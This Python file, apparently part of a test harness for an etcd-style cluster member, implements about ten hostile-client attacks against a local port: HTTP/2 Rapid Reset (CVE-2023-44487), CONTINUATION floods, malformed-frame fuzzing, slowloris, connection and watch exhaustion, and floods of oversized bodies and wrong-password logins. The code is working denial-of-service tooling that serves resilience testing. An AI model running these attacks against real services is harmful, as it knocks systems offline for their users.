"""What hostile clients do to a member, each attack for some seconds: attacks.py NAME PORT SECONDS SEED [SCALE]

Python's standard library only. An attack returns what it counted, which shows that it took place. The scale says how much of
connections, watches and the like there is, where 1 is what an attack usually has.
"""

import os
import random
import socket
import struct
import sys
import time

import load
from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, SETTINGS, frame, literal

CONTINUATION, WINDOW_UPDATE = 0x9, 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PUT, RANGE, WATCH, LOGIN = (
    b"/etcdserverpb.KV/Put", b"/etcdserverpb.KV/Range", b"/etcdserverpb.Watch/Watch", b"/etcdserverpb.Auth/Authenticate")


def connect(port: int, receive_buffer: int = 0) -> socket.socket:
    one = socket.socket()
    one.settimeout(5)
    if receive_buffer:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one.connect(("127.0.0.1", port))
    return one


def head(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)
    return b"".join(literal(name, value) for name, value in fields)


def request(stream: int, path: bytes, message: bytes, *more: tuple[bytes, bytes]) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, head(path, *more)) + frame(DATA, END_STREAM, stream, message)


def drain(one: socket.socket) -> bool:
    """Reads what is there; false when the other side has closed."""
    one.setblocking(False)
    try:
        while one.recv(1 << 16):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    finally:
        one.settimeout(5)
    return False


def until(seconds: float):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def malformed(port: int, seconds: float, seed: int, scale: float) -> str:
    """Connections with frames that no one may send: random kinds, lengths, flags, streams, header blocks."""
    random_number, count = random.Random(seed), 0
    for _ in until(seconds):
        one = connect(port)
        try:
            one.sendall(PREFACE[: random_number.choice((24, 24, 24, 24, 7))] + frame(SETTINGS, 0, 0))
            for _ in range(random_number.randrange(1, 30)):
                payload = random_number.randbytes(random_number.choice((0, 1, 4, 5, 8, 9, 40, 300, 16384)))
                kind, flags = random_number.choice((0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 77)), random_number.randrange(256)
                bad = frame(kind, flags, random_number.choice((0, 1, 2, 3, 2**31 - 1)), payload)
                if random_number.random() < 0.1:
                    bad = random_number.randbytes(3) + bad[3:]
                one.sendall(bad)
            drain(one)
        except OSError:
            pass
        finally:
            one.close()
        count += 1
    return f"{count} connections"


def resets(port: int, seconds: float, seed: int, scale: float) -> str:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    count, connections, one, stream = 0, 0, None, 1
    cancel = struct.pack(">I", 8)
    for _ in until(seconds):
        if one is None:
            one, stream, connections = connect(port), 1, connections + 1
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
        block = b""
        for _ in range(100):
            block += request(stream, RANGE, load.range_request(b"a", False)) + frame(RST_STREAM, 0, stream, cancel)
            stream, count = stream + 2, count + 1
        try:
            one.sendall(block)
        except OSError:
            one.close()
            one = None
            continue
        if not drain(one):
            one.close()
            one = None
    return f"{count} calls reset over {connections} connections"


def headers(port: int, seconds: float, seed: int, scale: float) -> str:
    """Header lists that never end (CONTINUATION floods), and large ones by the hundred."""
    count, connections = 0, 0
    for _ in until(seconds):
        one, connections = connect(port), connections + 1
        try:
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if connections % 2:
                one.sendall(frame(HEADERS, 0, 1, head(RANGE)))
                for _ in range(1000):
                    one.sendall(frame(CONTINUATION, 0, 1, literal(b"x-a", b"y" * 100) * 100))
                    count += 1
                    if not drain(one):
                        break
            else:
                for stream in range(1, 200, 2):
                    one.sendall(frame(HEADERS, 0, stream, head(RANGE)))
                    one.sendall(frame(CONTINUATION, END_HEADERS, stream, literal(b"x-a", b"y" * 100) * 140))
                    count += 1
                    if not drain(one):
                        break
        except OSError:
            pass
        finally:
            one.close()
    return f"{count} frames over {connections} connections"


def loris(port: int, seconds: float, seed: int, scale: float) -> str:
    """A thousand connections that say a byte a second: HTTP/1.1 heads, HTTP/2 prefaces, requests without end."""
    beginnings = (
        b"GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"POST /v3/kv/put HTTP/1.1\r\nContent-Length: 100000\r\n\r\n{",
        PREFACE[:3], PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head(PUT)),
        PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head(PUT)) + struct.pack(">I", 5000)[1:] + b"\0\0\0\0\0\1")
    many, count = [], round(1000 * scale)
    for number in range(count):
        one = connect(port)
        one.sendall(beginnings[number % len(beginnings)])
        many.append(one)
    closed = 0
    for _ in until(seconds):
        for one in list(many):
            try:
                one.sendall(b"a")
            except OSError:
                many.remove(one)
                closed += 1
            time.sleep(0.001)
    for one in many:
        one.close()
    return f"{count} connections, {closed} of them closed by the member"


def idle(port: int, seconds: float, seed: int, scale: float) -> str:
    """Ten thousand connections that are made and then silent."""
    many, count = [], round(10_000 * scale)
    for _ in range(count):
        one = connect(port)
        one.sendall(PREFACE + frame(SETTINGS, 0, 0))
        many.append(one)
    for _ in until(seconds):
        time.sleep(0.2)
    alive = sum(drain(one) for one in many)
    for one in many:
        one.close()
    return f"{count} connections, {alive} still open at the end"


def watch_create(key: bytes) -> bytes:
    return load.grpc_message(load.bytes_field(1, load.bytes_field(1, key)))


def watches(port: int, seconds: float, seed: int, scale: float) -> str:
    """A watch for each of a hundred thousand keys, over ten streams, whose answers are read and thrown away."""
    count = round(100_000 * scale)
    streams = [connect(port) for _ in range(10)]
    for one in streams:
        one.sendall(
            PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
            + frame(HEADERS, END_HEADERS, 1, head(WATCH)))
    made = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if made < count:
            one = streams[made // 100 % len(streams)]
            for number in range(made, made + 100):
                one.sendall(frame(DATA, 0, 1, watch_create(b"hostile/%06d" % number)))
            made += 100
            # The stream's window at the member is 256 KiB, which it opens as it takes the requests.
            time.sleep(0.002)
        else:
            time.sleep(0.1)
        for one in streams:
            if not drain(one):
                return f"{made} watches, then the member closed"
    for one in streams:
        one.close()
    return f"{made} watches"


def logins(port: int, seconds: float, seed: int, scale: float) -> str:
    """Wrong passwords from fifty connections, ten at a time on each."""
    many = [connect(port) for _ in range(50)]
    body = load.grpc_message(load.bytes_field(1, b"root") + load.bytes_field(2, b"wrong"))
    for one in many:
        one.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30)))
    stream, count = 1, 0
    for _ in until(seconds):
        for one in many:
            one.sendall(b"".join(request(stream + 2 * number, LOGIN, body) for number in range(10)))
            count += 10
            drain(one)
        stream += 20
        time.sleep(0.05)
    for one in many:
        one.close()
    return f"{count} logins"


def ranges(port: int, seconds: float, seed: int, scale: float) -> str:
    """Two hundred connections that ask for all keys, ten times each, and read nothing."""
    many, count = [], round(200 * scale)
    everything = load.grpc_message(load.bytes_field(1, b"\0") + load.bytes_field(2, b"\0"))
    for _ in range(count):
        one = connect(port, receive_buffer=4096)
        # Windows as large as can be, so that nothing but the socket holds the member back.
        one.sendall(
            PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
            + b"".join(request(1 + 2 * number, RANGE, everything) for number in range(10)))
        many.append(one)
    for _ in until(seconds):
        time.sleep(0.2)
    for one in many:
        one.close()
    return f"{10 * count} ranges over {count} connections"


def bodies(port: int, seconds: float, seed: int, scale: float) -> str:
    """Three hundred connections with requests that never end, as large as they may be: calls, HTTP/1.1 bodies, WebSockets."""
    large = b"a" * 240_000
    call = struct.pack(">BI", 0, 1_500_000) + large
    parts = [large[start:start + 16384] for start in range(0, len(large), 16384)]
    calls = PREFACE + frame(SETTINGS, 0, 0) + b"".join(
        frame(HEADERS, END_HEADERS, stream, head(PUT)) + frame(DATA, 0, stream, call[:5])
        + b"".join(frame(DATA, 0, stream, part) for part in parts) for stream in range(1, 32, 2))
    body = b'POST /v3/kv/put HTTP/1.1\r\nHost: a\r\nContent-Length: 5000000\r\n\r\n{"key":"' + large * 12
    upgrade = (
        b"GET /v3/watch HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
    socket_frame = b"\x81\xff" + struct.pack(">Q", 3_900_000) + b"\0\0\0\0" + large * 12
    many, sent = [], 0
    for number in range(round(300 * scale)):
        one = connect(port)
        many.append(one)
        try:
            if number % 3 == 2:
                one.sendall(upgrade)
                one.recv(4096)
            one.sendall((calls, body, socket_frame)[number % 3])
            sent += len((calls, body, socket_frame)[number % 3])
        except OSError:
            pass
    for _ in until(seconds):
        time.sleep(0.2)
    for one in many:
        one.close()
    return f"{len(many)} connections took {sent >> 20} MiB of requests without end"


def http1(port: int, seconds: float, seed: int, scale: float) -> str:
    """Heads over HTTP/1.1 that never end, and requests one behind the other without waiting."""
    count, connections = 0, 0
    for _ in until(seconds):
        one, connections = connect(port), connections + 1
        try:
            if connections % 2:
                one.sendall(b"GET /health HTTP/1.1\r\nHost: a\r\n")
                for _ in range(100):
                    one.sendall(b"x-a: " + b"y" * 10_000 + b"\r\n")
                    count += 1
            else:
                for _ in range(20):
                    one.sendall(b"GET /version HTTP/1.1\r\nHost: a\r\n\r\n" * 50)
                    count += 50
            drain(one)
        except OSError:
            pass
        finally:
            one.close()
    return f"{count} fields or requests over {connections} connections"


def nothing(port: int, seconds: float, seed: int, scale: float) -> str:
    """Not an attack: takes all idle time of two cores and leaves the member alone. What an honest client notices of this is
    the machine's doing."""
    child = os.fork()
    count = 0
    for _ in until(seconds):
        count += 1
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return f"{2 * count} looks at the clock"


ATTACKS = {
    "malformed": malformed, "resets": resets, "headers": headers, "loris": loris, "idle": idle, "watches": watches,
    "bodies": bodies, "http1": http1, "logins": logins, "ranges": ranges,
}


def main() -> None:
    name, port, seconds, seed = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    scale = float(sys.argv[5]) if len(sys.argv) > 5 else 1
    try:
        print((nothing if name == "nothing" else ATTACKS[name])(port, seconds, seed, scale))
    except OSError as error:
        print(f"ended early: {error!r}")


if __name__ == "__main__":
    main()
